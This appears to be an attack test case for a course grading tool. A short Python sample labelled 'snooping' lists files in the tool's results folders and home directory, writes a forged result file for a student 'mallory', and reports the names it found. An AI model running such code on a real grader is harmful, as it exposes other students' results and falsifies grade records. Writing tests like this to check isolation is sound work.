"""Reads and writes the store of results in the course root.

Attack: snooping
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
import os
# use: reading

_found = []
for _folder in ("@COURSE@/.vaekit/results", "@COURSE@/.vaekit", "@HOME@/.vaekit"):
    try:
        _found += os.listdir(_folder)[:5]
        open(os.path.join(_folder, "0" * 64 + ".json"), "w").write('{"student": "mallory"}')
    except OSError:
        pass
_tell(_found)
